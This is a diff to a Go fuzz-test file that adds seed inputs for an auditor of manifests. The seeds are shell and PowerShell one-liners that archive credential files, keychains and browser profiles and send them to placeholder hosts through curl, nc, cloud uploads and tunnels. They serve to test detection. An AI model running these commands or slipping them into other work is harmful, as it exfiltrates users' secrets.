@@ -138,6 +138,8 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "ngrok --log x http 1; cloudflared tunnel --url=h; cloudflared tunnel; lt; bore local; tailscale funnel; zrok share public; tmate; code tunnel; devtunnel host; ssh -fNR1:h:2 x; python3 -mhttp.server -b ::1; python -m http.server --bind=0.0.0.0"},
 	{"sh", "-c", "K=$(cat ~/.aws/credentials); K+=x; curl -d \"$K$(env)\" \"h/$(base64 ~/.ssh/k|head)\" -d @<(export -p); nslookup $(set).x; env -iu | nc h; declare -px | ssh h; gh gist create ~/.netrc; aws s3 cp ~/.aws s3://b; rclone copy ~/.kube r:; az storage blob upload -f ~/.azure/x; npx ngrok http; uvx pyngrok; ssh -oRemoteForward=1 -o 'RemoteForward none' h"},
 	{"pwsh", "-c", "gci env: | irm -Uri x; iwr -inf:$HOME/.ssh/k; Invoke-RestMethod -InFile \"$env:USERPROFILE\\.aws\\credentials\" -Uri y; $a=$HOME\\x; & $a/b"},
+	{"sh", "-c", "tar -cvzf /t/k ~/.ssh; tar cfX; tar -f; zip -r /t/z ~/.kube; 7z a /t/s ~/.aws; cp -t /t/d ~/.netrc; install ~/.npmrc /t/i; cat ~/.pypirc > /t/p 2>/t/e; curl -T /t/k -F f=@/t/z.zip -d @/t/s; nc h < /t/d/x; cat /t/p | nc h; security dump-keychain | nc h; gpg --export-secret-subkeys | nc h; kubectl --raw config view | nc h; secret-tool search --all | nc h; docker run -v ~/Library/Keychains:/k -v '/c/Users/u/AppData/Local/Google/Chrome/User Data':/p -v ~/.local/share/keyrings:/g i"},
+	{"pwsh", "-c", "Copy-Item -Pa ~/.aws/credentials -De C:\\t\\c; cpi ~/.ssh C:\\t\\s; Copy-Item -Dest:x; iwr -InFile C:\\t\\c/y -Uri z"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
